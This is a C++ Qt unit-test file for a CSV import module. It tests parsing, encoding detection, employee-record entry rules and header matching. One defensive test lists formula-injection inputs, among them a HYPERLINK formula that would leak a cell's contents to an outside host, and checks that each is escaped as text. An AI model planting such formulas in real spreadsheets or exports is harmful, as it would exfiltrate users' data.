#include "core/common/codepage.h"
#include "core/import/csv.h"
#include "core/import/record_import.h"

#include <QBuffer>
#include <QTest>

class TestCsv : public QObject {
    Q_OBJECT
private slots:
    void parse_data();
    void parse();
    void writeAndReadBack_data();
    void writeAndReadBack();
    void decodeFile_data();
    void decodeFile();
    void entryRules_data();
    void entryRules();
    void header();
    void formulasAreWrittenAsText_data();
    void formulasAreWrittenAsText();
    void cellsFromElsewhereKeepTheirApostrophe();
    void recordsAreCountedUpToTheLimit();
    void fileIsReadAPieceAtATime_data();
    void fileIsReadAPieceAtATime();
};

void TestCsv::parse_data() {
    QTest::addColumn<QString>("text");
    QTest::addColumn<QStringList>("records"); // fields joined by "|", or "!line: error"
    QTest::newRow("plain fields, CR LF") << "a,b\r\nc,d\r\n" << QStringList{"a|b", "c|d"};
    QTest::newRow("LF only, no final break") << "a,b\nc,d" << QStringList{"a|b", "c|d"};
    QTest::newRow("empty fields") << ",,\r\n" << QStringList{"||"};
    QTest::newRow("quoted comma and quote") << "\"x,y\",\"say \"\"hi\"\"\"\r\n"
                                            << QStringList{"x,y|say \"hi\""};
    QTest::newRow("quoted line break counts lines") << "\"1\n2\",z\r\nnext\r\n"
                                                    << QStringList{"1\n2|z", "next"};
    QTest::newRow("empty lines skipped") << "a\r\n\r\n\r\nb\r\n" << QStringList{"a", "b"};
    QTest::newRow("quote inside unquoted field") << "ok\r\nab\"c,d\r\nlast\r\n"
                                                 << QStringList{"ok", "!2", "last"};
    QTest::newRow("text after closing quote") << "\"ab\"c,d\r\nlast\r\n"
                                              << QStringList{"!1", "last"};
    QTest::newRow("quote never closed") << "a\r\n\"open,\r\nmore\r\n" << QStringList{"a", "!2"};
    QTest::newRow("Chinese text") << "陳大文,\"李,小龍\"\r\n" << QStringList{"陳大文|李,小龍"};
}

void TestCsv::parse() {
    QFETCH(QString, text);
    QFETCH(QStringList, records);
    QStringList found;
    for (const csv::Record& record : csv::parse(text))
        found << (record.error.isEmpty() ? record.fields.join(u'|')
                                         : QStringLiteral("!%1").arg(record.line));
    QCOMPARE(found, records);
}

void TestCsv::writeAndReadBack_data() {
    QTest::addColumn<QStringList>("fields");
    QTest::addColumn<QString>("line");
    QTest::newRow("plain") << QStringList{"A", "1"} << "A,1\r\n";
    QTest::newRow("comma, quote, line break")
        << QStringList{"a,b", "say \"x\"", "1\r\n2"} << "\"a,b\",\"say \"\"x\"\"\",\"1\r\n2\"\r\n";
    QTest::newRow("empty and blank") << QStringList{"", " "} << ", \r\n";
    QTest::newRow("Chinese") << QStringList{"陳大文"} << "陳大文\r\n";
}

void TestCsv::writeAndReadBack() {
    QFETCH(QStringList, fields);
    QFETCH(QString, line);
    QCOMPARE(csv::line(fields), line);
    const QList<csv::Record> read = csv::parse(line);
    QCOMPARE(read.size(), 1);
    QCOMPARE(read.first().fields, fields);
}

void TestCsv::decodeFile_data() {
    QTest::addColumn<QByteArray>("bytes");
    QTest::addColumn<QString>("text"); // "(none)" when it cannot be read
    const QString name = QStringLiteral("陳大文");
    QTest::newRow("UTF-8 with byte-order mark") << csv::byteOrderMark + name.toUtf8() << name;
    QTest::newRow("UTF-8 without mark") << name.toUtf8() << name;
    QTest::newRow("Big5-HKSCS") << *codepage::encode(name) << name;
    QTest::newRow("ASCII") << QByteArray("ID,Surname") << "ID,Surname";
    QTest::newRow("neither") << QByteArray("\xff\xff\xff") << "(none)";
}

void TestCsv::decodeFile() {
    QFETCH(QByteArray, bytes);
    QFETCH(QString, text);
    QCOMPARE(csv::decodeFile(bytes).value_or(QStringLiteral("(none)")), text);
}

// Each value as the editor's field would hold it once typed and left.
void TestCsv::entryRules_data() {
    QTest::addColumn<QString>("column");
    QTest::addColumn<QString>("typed");
    QTest::addColumn<QVariant>("stored");
    QTest::newRow("surname upper-cased") << "Surname"
                                         << " o'brien " << QVariant("O'BRIEN");
    QTest::newRow("surname refused kept") << "Surname"
                                          << "ch an" << QVariant("ch an");
    QTest::newRow("identity number") << "HKID"
                                     << "a123456" << QVariant("A123456");
    QTest::newRow("check character") << "ChkDigit"
                                     << "a" << QVariant("A");
    QTest::newRow("sex") << "Sex"
                         << "f" << QVariant("F");
    QTest::newRow("area code") << "RAreaCode"
                               << " k" << QVariant("K");
    QTest::newRow("day gets two digits") << "EDay1"
                                         << "1" << QVariant("01");
    QTest::newRow("month gets two digits") << "EMonth2"
                                           << "3" << QVariant("03");
    QTest::newRow("amount grouped") << "aIncome"
                                    << "1234567" << QVariant("1,234,567");
    QTest::newRow("amount with cents kept") << "bIncome"
                                            << "12.50" << QVariant("12.50");
    QTest::newRow("rent grouped") << "Q1Rent1"
                                  << "9000" << QVariant("9,000");
    QTest::newRow("indicator as number") << "QFlag"
                                         << "1" << QVariant(1LL);
    QTest::newRow("empty indicator") << "OSeaFlag"
                                     << "" << QVariant();
    QTest::newRow("free text kept") << "Remark"
                                    << "part time" << QVariant("part time");
    QTest::newRow("status default") << "Status"
                                    << "" << QVariant("O");
    QTest::newRow("status upper-cased") << "Status"
                                        << "s" << QVariant("S");
    QTest::newRow("ID ignored") << "ID"
                                << "77" << QVariant();
    QTest::newRow("sheet number ignored") << "SheetNo"
                                          << "12" << QVariant();
}

void TestCsv::entryRules() {
    QFETCH(QString, column);
    QFETCH(QString, typed);
    QFETCH(QVariant, stored);
    const RowValues row = rowFromFields({typed}, matchHeader({column}));
    const QVariant value = row.at(columnIndex(employeeColumns(), column));
    QCOMPARE(value.isNull(), stored.isNull());
    if (!stored.isNull())
        QCOMPARE(value.toString(), stored.toString());
}

// What a text cell is written as; reading that gives the text back, always.
void TestCsv::formulasAreWrittenAsText_data() {
    QTest::addColumn<QString>("text");
    QTest::addColumn<QString>("written");
    QTest::newRow("valid: plain text") << "FLAT A"
                                       << "FLAT A";
    QTest::newRow("valid: empty") << ""
                                  << "";
    QTest::newRow("invalid: formula") << "=1+2"
                                      << "'=1+2";
    QTest::newRow("invalid: hyperlink formula") << "=HYPERLINK(\"http://x?leak=\"&G2,\"x\")"
                                                << "'=HYPERLINK(\"http://x?leak=\"&G2,\"x\")";
    QTest::newRow("invalid: plus") << "+41 22"
                                   << "'+41 22";
    QTest::newRow("invalid: minus") << "-2+3"
                                    << "'-2+3";
    QTest::newRow("invalid: at sign") << "@SUM(A1)"
                                      << "'@SUM(A1)";
    QTest::newRow("invalid: tab") << "\tx"
                                  << "'\tx";
    QTest::newRow("invalid: carriage return") << "\rx"
                                              << "'\rx";
    QTest::newRow("boundary: apostrophe alone") << "'"
                                                << "''";
    QTest::newRow("boundary: apostrophe and a letter") << "'abc"
                                                       << "''abc";
    QTest::newRow("boundary: apostrophe and a formula") << "'=1"
                                                        << "''=1";
    QTest::newRow("boundary: two apostrophes") << "''"
                                               << "'''";
    QTest::newRow("boundary: formula sign later in the text") << "A=1"
                                                              << "A=1";
}

void TestCsv::formulasAreWrittenAsText() {
    QFETCH(QString, text);
    QFETCH(QString, written);
    QCOMPARE(csv::protectedCell(text), written);
    QCOMPARE(csv::unprotectedCell(written), text);
}

// A cell of a file from elsewhere is read as it stands unless it begins as a written one does:
// a spreadsheet's own text mark before a letter or a digit stays.
void TestCsv::cellsFromElsewhereKeepTheirApostrophe() {
    for (const QString& cell : {QStringLiteral("'abc"), QStringLiteral("'5"), QStringLiteral("=1"),
                                QStringLiteral("a'=1")})
        QCOMPARE(csv::unprotectedCell(cell), cell);
    QCOMPARE(csv::unprotectedCell(QStringLiteral("'+5")), QStringLiteral("+5"));
}

void TestCsv::recordsAreCountedUpToTheLimit() {
    const QString text = QStringLiteral("H\r\n\r\n\"a\r\nb\"\r\nc\r\n");
    QCOMPARE(csv::countRecords(text, 10), 3); // the empty line is none, the quoted break one
    QCOMPARE(csv::countRecords(text, 3), 3);
    QCOMPARE(csv::countRecords(text, 2), 3);
    QCOMPARE(csv::countRecords(text, 1), 2);
    QCOMPARE(csv::countRecords(QString(), 5), 0);
}

// Columns are named by their labels or their names, in any case; the missing ones by label.
void TestCsv::header() {
    const ImportColumns columns =
        matchHeader({"surname", "ID", "Colour", "FIRSTNAME", " sex (m or f)"});
    QCOMPARE(columns.unknown, QStringList{"Colour"});
    QCOMPARE(columns.columnOfField.at(1), -1); // ID is never taken from the file
    QCOMPARE(columns.columnOfField.at(3), columnIndex(employeeColumns(), "FirstName"));
    QCOMPARE(columns.columnOfField.at(4), columnIndex(employeeColumns(), "Sex"));
    QVERIFY(columns.missing.contains(
        "Marital Status (1=Single/Widowed/Divorced/Separated, 2=Married)"));
    QVERIFY(!columns.missing.contains("Sheet Number"));
    QCOMPARE(columns.missing.size(), 81 - 2 - 3);
}

QTEST_GUILESS_MAIN(TestCsv)
// Records of a file read a piece at a time (a piece is a megabyte) are those of its whole text:
// a quoted field or a record cut off by the end of a piece is read again with the next.
void TestCsv::fileIsReadAPieceAtATime_data() {
    QTest::addColumn<QByteArray>("bytes");
    QTest::addColumn<int>("encoding"); // as fileEncoding finds it, -1 for neither
    QByteArray filler;
    for (int line = 0; filler.size() < 1024 * 1024 - 100; ++line)
        filler += "CHAN,TAI MAN," + QByteArray::number(line) + "\r\n";
    // The first piece ends at the first line feed after its megabyte: inside the quotes.
    QByteArray beforeQuote = "head\n" + filler;
    beforeQuote += QByteArray(1024 * 1024 - 10 - beforeQuote.size() - 2, 'x') + "\r\n";
    const QByteArray quoted = "\"a quoted field\nover\r\nthree lines\",x\r\nlast,line\r\n";
    QTest::newRow("UTF-8 with its mark, a record across the cut")
        << csv::byteOrderMark + "Surname,HKID\r\n" + filler + "\"LEE\",\"陳大文\"\r\n" + filler
        << int(csv::FileEncoding::Utf8);
    QTest::newRow("a quoted field across the cut")
        << beforeQuote + quoted + filler << int(csv::FileEncoding::Utf8);
    QTest::newRow("a quote never closed")
        << "head\n" + filler + "\"open\n" + filler << int(csv::FileEncoding::Utf8);
    QTest::newRow("empty lines and bare line feeds")
        << "a,b\n\n\n" + filler + "\n\nc,d" << int(csv::FileEncoding::Utf8);
    QTest::newRow("Big5-HKSCS") << "Surname\r\n" + filler + *codepage::encode("陳大文") + "\r\n"
                                << int(csv::FileEncoding::CodePage);
    QTest::newRow("neither") << "Surname\r\n" + filler + "\xff\xff\xff\r\n" << -1;
    QTest::newRow("empty file") << QByteArray() << int(csv::FileEncoding::Utf8);
}

void TestCsv::fileIsReadAPieceAtATime() {
    QFETCH(QByteArray, bytes);
    QFETCH(int, encoding);
    QBuffer file(&bytes);
    QVERIFY(file.open(QIODevice::ReadOnly));
    const std::optional<csv::FileEncoding> found = csv::fileEncoding(file, bytes.size());
    QCOMPARE(found ? int(*found) : -1, encoding);
    QCOMPARE(file.pos(), 0);
    if (!found)
        return;
    const QList<csv::Record> whole = csv::parse(*csv::decodeFile(bytes));
    QList<csv::Record> pieces;
    QVERIFY(csv::forEachRecordOfFile(file, bytes.size(), *found,
                                     [&pieces](const csv::Record& record) { pieces << record; }));
    QCOMPARE(pieces.size(), whole.size());
    for (qsizetype i = 0; i < whole.size(); ++i) {
        QCOMPARE(pieces.at(i).line, whole.at(i).line);
        QCOMPARE(pieces.at(i).fields, whole.at(i).fields);
        QCOMPARE(pieces.at(i).error, whole.at(i).error);
    }
}

#include "tst_csv.moc"
